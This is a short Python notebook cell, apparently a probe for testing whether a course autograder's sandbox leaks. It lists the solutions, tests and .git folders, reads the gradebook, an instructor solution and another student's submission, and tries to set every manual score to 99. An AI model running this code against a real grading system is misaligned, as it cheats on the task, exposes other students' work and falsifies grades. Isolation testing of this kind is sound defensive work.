# tries: to read the solutions, the gradebook and the work of others
# %% task-1a
import glob
import os
import sqlite3

root = COURSE
for place in (root, REPOSITORY + "/solutions", REPOSITORY + "/tests", REPOSITORY + "/.git"):
    for folder, _, files in os.walk(place):
        print("LEAK", folder, files)
for name in ("gradebook.db", "solutions/ps1/ps1.ipynb", "submitted/honest/ps1/ps1.ipynb"):
    try:
        print("LEAK", open(os.path.join(root, name), "rb").read()[:99])
    except OSError:
        pass
try:
    sqlite3.connect(os.path.join(root, "gradebook.db")).execute("update grade set manual_score = 99")
    print("LEAK")
except sqlite3.Error:
    pass
